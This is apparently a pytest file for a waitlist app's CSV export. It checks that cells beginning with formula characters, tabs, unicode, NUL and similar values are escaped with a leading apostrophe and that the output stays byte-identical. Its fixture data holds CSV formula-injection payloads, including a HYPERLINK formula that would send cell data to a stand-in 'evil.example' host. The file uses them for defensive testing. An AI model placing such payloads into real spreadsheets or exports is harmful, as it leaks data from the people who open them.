"""The export's cells for awkward values: formula starts, unicode, NUL, missing
values, dates near midnight and across daylight saving, unknown codes, numbers.

The expected file was written by the export before it was made faster (issue 13),
compared with the new one's in the same test until the old one was removed: the same
data must give the same bytes."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from intake import clock as app_clock
from intake.auth.scope import EVERYTHING
from intake.extensions import db
from intake.models import ApplicationWindow
from intake.waitlist import export
from intake.waitlist.queries import Filters


def tricky(add, programs):
    """Applications whose every text column tries something."""
    program = programs["introductory"]
    program.name = "=Program name"
    window = ApplicationWindow(
        program=program,
        name="+Spring cycle",
        opens_at=datetime(2026, 1, 1, tzinfo=UTC),
        closes_at=datetime(2026, 6, 1, tzinfo=UTC),
        created_at=datetime(2026, 1, 1, tzinfo=UTC),
    )
    db.session.add(window)
    made = [
        add(
            '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
            email="=evil@example.org",
            phone="+1 206 555 0100",
            organisation="@SUM(1+1)",
            access_needs_other="-2+3",
            reference="AAAA-AAAA",
            priority=-1,
            commit=False,
        ),
        add(
            "\tTabbed",
            email="tab@example.org",
            organisation="\rReturn",
            access_needs=("captions", "asl_interpreter"),
            access_needs_other="=1+1",
            reference="BBBB-BBBB",
            priority=3,
            commit=False,
        ),
        add(
            "Ünïcödé 王小明 \uff1d全角 \u200b=zero width",
            email="unicode@example.org",
            agency_name="-Minus Agency",
            organisation="ignored when an agency",
            seats=6,
            languages=("cmn", "es", "asl", "xx"),
            availability=("weekend", "-odd", "weekday_morning"),
            access_needs=("unknown_need",),
            reference="CCCC-CCCC",
            priority=2,
            commit=False,
        ),
        add(
            'Say "hi", then\nleave,\r\nx',
            email=" spaced@example.org",
            phone=" =not a formula",
            organisation="'already quoted",
            status="needs_review",
            joined_days_ago=None,
            languages=(),
            availability=(),
            reference="DDDD-DDDD",
            priority=1,
            commit=False,
        ),
        add(
            "-",
            email="@",
            phone="",
            organisation="",
            access_needs_other="",
            status="withdrawn",
            priority=7,
            reference="EEEE-EEEE",
            commit=False,
        ),
    ]
    made[0].window = window
    made[0].applicant.entered_via = "phone"
    made[1].applicant.entered_via = "paper"
    # Minutes either side of midnight in Seattle, and either side of the clocks
    # changing (8 March 2026 and 2 November 2025).
    made[0].joined_at = datetime(2026, 3, 2, 7, 59, tzinfo=UTC)  # 23:59 on 1 March
    made[1].joined_at = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)  # 00:00 on 2 March
    made[2].joined_at = datetime(2025, 11, 2, 6, 59, tzinfo=UTC)  # 23:59 PDT on 1 Nov
    made[4].joined_at = datetime(2025, 11, 2, 8, 30, tzinfo=UTC)  # 00:30 PST on 2 Nov
    db.session.commit()


# Written by the export as it was before issue 13 (row by row, ``neutralise`` on each
# cell), from the rows above; the new one must write the same bytes.
HEADER = (
    "\ufeffReference,Kind,Name,Organisation or agency,E-mail,Phone,Program,Cycle,Status,"
    "Priority,Seats,Languages,Days/times,Access needs,Joined,Days waiting,"
    "Entered by coordinator\r\n"
)
ROWS = (
    "EEEE-EEEE,individual,'-,,'@,,'=Program name,,Withdrawn,7,1,English,Weekday evenings,,"
    "2025-11-02,120,\r\n"
    "BBBB-BBBB,individual,'\tTabbed,\"'\rReturn\",tab@example.org,,'=Program name,,"
    "On the waitlist,3,1,English,Weekday evenings,Live captions (CART); ASL interpreter; =1+1,"
    "2026-03-02,0,paper\r\n"
    "CCCC-CCCC,agency,\u00dcn\u00efc\u00f6d\u00e9 \u738b\u5c0f\u660e \uff1d\u5168\u89d2 "
    "\u200b=zero width,'-Minus Agency,unicode@example.org,,'=Program name,,On the waitlist,2,6,"
    "ASL (American Sign Language); \u4e2d\u6587\uff08\u666e\u901a\u8bdd Mandarin\uff09; "
    "Espa\u00f1ol; xx,'-odd; Weekday mornings; Weekends,unknown_need,2025-11-01,120,\r\n"
    'DDDD-DDDD,individual,"Say ""hi"", then\nleave,\r\nx",\'already quoted, '
    "spaced@example.org, =not a formula,'=Program name,,Being reviewed,1,1,,,,,1,\r\n"
    'AAAA-AAAA,individual,"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Click"")",'
    "'@SUM(1+1),'=evil@example.org,'+1 206 555 0100,'=Program name,'+Spring cycle,"
    "On the waitlist,-1,1,English,Weekday evenings,'-2+3,2026-03-01,0,phone\r\n"
)


def export_all(app) -> str:
    with app.test_request_context():
        stmt = export.export_query(Filters(status="all"), scope=EVERYTHING)
        return "".join(export.csv_chunks(stmt, app_clock.now()))


def test_the_same_bytes_as_before(app, add, programs):
    tricky(add, programs)
    assert export_all(app) == HEADER + ROWS


def test_nul_characters(app, add, programs):
    if db.engine.dialect.name == "postgresql":
        pytest.skip("PostgreSQL refuses NUL in text")
    tricky(add, programs)
    add("A\x00B", email="nul@example.org", organisation="\x00=1", reference="FFFF-FFFF", priority=9)
    nul = (
        "FFFF-FFFF,individual,A\x00B,\x00=1,nul@example.org,,'=Program name,,On the waitlist,"
        "9,1,English,Weekday evenings,,2026-03-02,0,\r\n"
    )
    assert export_all(app) == HEADER + nul + ROWS
